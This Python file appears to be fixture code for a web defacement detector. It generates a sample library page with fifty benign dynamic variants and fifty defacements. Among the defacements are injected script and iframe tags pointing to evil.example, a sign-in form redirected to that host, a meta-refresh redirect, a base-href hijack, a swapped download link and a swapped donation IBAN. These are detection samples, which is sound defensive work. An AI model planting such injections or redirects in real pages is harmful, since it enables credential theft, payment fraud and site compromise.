"""Fifty kinds of pages that move by themselves, and fifty ways to deface a page."""

# ruff: noqa: E501, RUF001 - a row of these tables is read as one line

import base64
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from itertools import pairwise
from random import Random
from uuid import UUID

START = datetime(2026, 1, 5, 9, 30, tzinfo=UTC)
IBAN, PHONE, DOWNLOAD = (
    "DE89 3704 0044 0532 0130 00",
    "+49 30 901820",
    "https://get.example/app.zip",
)
NAMES = "Ada Boole Curie Darwin Euler Fermat Gauss Hopper".split()  # noqa: SIM905
QUOTES = [f"“{word} is the {other} of things.”" for word, other in pairwise(NAMES)]
Part = Callable[[Random, int], str]

PAGE = f"""<!doctype html><html><head><title>Town library</title>
<meta name="description" content="Books for everybody"><script src="/app.js"></script></head><body>
<header><h1>Town library</h1><nav><a href="/">Home</a> <a href="/books">Books</a></nav></header>
<main><h2>Welcome</h2><p>Our house is open to everybody.</p><p>Bring a card and take a book.</p>
<p>Readings are on Fridays in the large room.</p><ul><li>Novels</li><li>Maps</li><li>Music</li></ul>
<p>Donations: {IBAN}</p><p>Call us: {PHONE}</p><p><a href="{DOWNLOAD}">Get the app</a></p>
<form action="/sign-in"><input name="user"><button>Sign in</button></form></main>
<!-- moving --><footer>Town library, Market Square</footer></body></html>"""


def when(number: int) -> datetime:
    return START + timedelta(minutes=317 * number)


def hexadecimal(rng: Random, digits: int) -> str:
    return f"{rng.getrandbits(4 * digits):0{digits}x}"


def uuid(rng: Random) -> str:
    return str(UUID(int=rng.getrandbits(128)))


def encode(rng: Random, size: int) -> str:
    return base64.b64encode(rng.randbytes(size)).decode()


def shuffle(rng: Random, values: list[str]) -> str:
    return "".join(f"<li>{value}</li>" for value in rng.sample(values, len(values)))


def choose(values: list[str], count: int = 1) -> Part:
    return lambda rng, n: "".join(f"<p>{value}</p>" for value in rng.sample(values, count))


MOVING: dict[str, Part] = {
    "nothing": lambda rng, n: "<p>Still</p>",
    "clock": lambda rng, n: f"<p>{when(n):%H:%M:%S}</p>",
    "clock in words": lambda rng, n: f"<p>It is {when(n):%I:%M %p}.</p>",
    "date": lambda rng, n: f"<p>Today is {when(n):%A, %d %B %Y}</p>",
    "iso date": lambda rng, n: f"<p>Updated {when(n):%Y-%m-%dT%H:%M:%SZ}</p>",
    "short date": lambda rng, n: f"<p>As of {when(n):%m/%d/%Y %H:%M}</p>",
    "http date": lambda rng, n: f"<p>Made {when(n):%a, %d %b %Y %H:%M:%S} GMT</p>",
    "unix time": lambda rng, n: f"<p>t={int(when(n).timestamp())}</p>",
    "relative time": lambda rng, n: f"<p>Ada wrote {1 + n % 50} minute{'s' * (n % 50 > 0)} ago</p>",
    "relative units": lambda rng, n: f"<p>{rng.randint(2, 9)} {rng.choice(['hours', 'days'])} ago</p>",
    "hidden token": lambda rng, n: f'<input type="hidden" name="csrf" value="{hexadecimal(rng, 40)}">',
    "meta token": lambda rng, n: f'<meta name="csrf-token" content="{encode(rng, 30)}">',
    "visible token": lambda rng, n: f"<p>token: {hexadecimal(rng, 40)}</p>",
    "base64 token": lambda rng, n: f"<p>Key {encode(rng, 32)}</p>",
    "uuid": lambda rng, n: f"<p>Request {uuid(rng)}</p>",
    "bare uuid": lambda rng, n: f"<p>{uuid(rng)}</p>",
    "nonce": lambda rng, n: f'<script nonce="{encode(rng, 16)}">start({n})</script>',
    "inline data": lambda rng, n: f"<script>var t = {n};</script><style>.a{n} {{}}</style>",
    "comment": lambda rng, n: f"<!-- served by web{rng.randint(1, 9)} in {rng.random():.3f} -->",
    "counter": lambda rng, n: f"<p>{10_000 + 13 * n:,} visitors</p>",
    "counter that grows": lambda rng, n: f"<p>Visitor number {95 + 7 * n}</p>",
    "online": lambda rng, n: f"<p>{rng.randint(1, 40)} users online, {rng.randint(1, 9)} guests</p>",
    "generated in": lambda rng, n: f"<p>Generated in {rng.random():.3f} s, {rng.randint(3, 30)} queries</p>",
    "memory": lambda rng, n: f"<p>{rng.uniform(1, 9):.1f}MB / {rng.uniform(1, 90):.0f}ms</p>",
    "build hash": lambda rng, n: f"<p>Build {hexadecimal(rng, 12)}</p>",
    "version": lambda rng, n: f"<p>v2.{n}.{rng.randint(0, 30)}</p>",
    "price": lambda rng, n: f"<p>Gold: ${rng.uniform(1500, 2500):,.2f}</p>",
    "price with change": lambda rng, n: f"<p>ACME {rng.uniform(9, 99):.2f} ({rng.uniform(-5, 5):+.1f}%)</p>",
    "currency": lambda rng, n: f"<p>1 EUR = {rng.uniform(1, 1.2):.4f} USD</p>",
    "weather": lambda rng, n: f"<p>{rng.randint(-15, 35)}°C, wind {rng.randint(0, 90)} km/h</p>",
    "stock": lambda rng, n: f"<p>Only {rng.randint(2, 99)} items left</p>",
    "votes": lambda rng, n: f"<table><tr><td>Votes</td><td>{rng.randint(100, 9999)}</td></tr></table>",
    "pagination": lambda rng, n: f"<p>Page 1 of {40 + n % 17} (showing 1–10 of {400 + n})</p>",
    "calendar": lambda rng, n: f"<table><caption>{when(n):%B %Y}</caption><tr><td>{when(n):%d}</td></tr></table>",
    "session in links": lambda rng, n: f'<a href="/cart?sid={hexadecimal(rng, 32)}">Cart</a>',
    "cache-buster": lambda rng, n: f'<link rel="stylesheet" href="/a.css?{n}"><script src="/a.js?v={n}"></script>',
    "gravatars": lambda rng, n: f'<img alt="Ada" src="https://avatars.example/{hexadecimal(rng, 32)}">',
    "random classes": lambda rng, n: f'<div class="c{hexadecimal(rng, 6)}" id="x{n}">Styled</div>',
    "variants": choose(["Buy now", "Order today"]),
    "three variants": choose(["Try it for free", "Start your trial", "See how it works"]),
    "quotes": choose(QUOTES[:5]),
    "quote and author": lambda rng, n: (lambda k: f"<p>{QUOTES[k]}</p><p>{NAMES[k]}</p>")(rng.randrange(5)),
    "ads": choose([f"Buy the {name} lamp" for name in NAMES[:6]]),
    "ads with links": lambda rng, n: f'<a href="https://ad{rng.randrange(4)}.example/{n}">Sponsored</a>',
    "two of a pool": choose([f"{name} borrowed a book" for name in NAMES[:5]], 2),
    "shuffled": lambda rng, n: f"<ul>{shuffle(rng, NAMES)}</ul>",
    "popularity": lambda rng, n: f"<ol>{shuffle(rng, [f'{name} – {rng.randint(5, 999)} views' for name in NAMES])}</ol>",
    "sometimes there": lambda rng, n: "<p>We are hiring!</p>" * (rng.random() < 0.5),
    "countdown": lambda rng, n: f"<p>{90 - n % 80} days and {rng.randint(0, 23)} hours to go</p>",
    "player": lambda rng, n: f"<p>Score {rng.randint(0, 9)}:{rng.randint(0, 9)} (minute {n % 90})</p>",
}  # fmt: skip


def render(kind: str, rng: Random, number: int) -> str:
    return PAGE.replace("<!-- moving -->", MOVING[kind](rng, number))


def swap(old: str, new: str) -> Callable[[str], str]:
    return lambda html: html.replace(old, new)


def add(part: str) -> Callable[[str], str]:
    return swap("<footer>", f"{part}<footer>")


def link(host: str) -> str:
    return f'<a href="https://{host}/">.</a>'


BANNERS = ["Hacked by Nobody", "OWNED", "h4ck3d by x", "Free pills", "1337", "Pay 0.5 BTC to us",
           "Your files are encrypted", "Site closed", "Casino bonus 500%", "Взломано"]  # fmt: skip
DEFACEMENTS: dict[str, Callable[[str], str]] = {
    **{f"banner {banner}": add(f"<h1>{banner}</h1>") for banner in BANNERS},
    **{f"page replaced by {banner}": lambda html, banner=banner: f"<h1>{banner}</h1>" for banner in BANNERS[:5]},  # type: ignore[misc]
    **{f"spam link to {host}": add(link(host)) for host in ("pills.example", "casino.example", "a.b.example", "x.test")},
    **{f"{tag} injected": add(f'<{tag} src="https://evil.example/"></{tag}>') for tag in ("iframe", "script", "embed")},
    **{f"{word} renamed": swap(word, "Fake") for word in ("Novels", "Maps", "Music", "Books", "Market Square")},
    "title": swap("<title>Town library", "<title>Owned"),
    "heading": swap("<h1>Town library", "<h1>Owned"),
    "description": swap("Books for everybody", "Cheap watches"),
    "iban": swap(IBAN, "GB29 NWBK 6016 1331 9268 19"),
    "one digit of the iban": swap("0130 00", "0130 01"),
    "phone": swap(PHONE, "+49 30 901821"),
    "download": swap(DOWNLOAD, "https://evil.example/app.zip"),
    "form sends elsewhere": swap('action="/sign-in"', 'action="https://evil.example/"'),
    "refresh": add('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    "base": swap("<head>", '<head><base href="https://evil.example/">'),
    "paragraph removed": swap("<p>Bring a card and take a book.</p>", ""),
    "list removed": swap("<ul><li>Novels</li><li>Maps</li><li>Music</li></ul>", ""),
    "footer removed": swap("<footer>Town library, Market Square</footer>", ""),
    "main emptied": lambda html: html[: html.index("<main>")] + html[html.index("</main>") :],
    "all text replaced": lambda html: html.replace("a", "4").replace("e", "3"),
    "one word": swap("everybody.", "nobody."),
    "one letter": swap("Fridays", "Fridqys"),
    "hidden list": add('<div style="display:none"><p>watches</p><p>loans</p></div>'),
    "hidden links": add(f'<div hidden>{link("spam.example")}</div>'),
    "image": add('<img src="https://evil.example/skull.png">'),
    "image with words": add('<img alt="owned" src="/logo.png">'),
    "script in a link": add('<a href="javascript:alert(1)">Home</a>'),
    "frame of the site itself": add('<iframe src="/upload/x.html"></iframe>'),
}  # fmt: skip
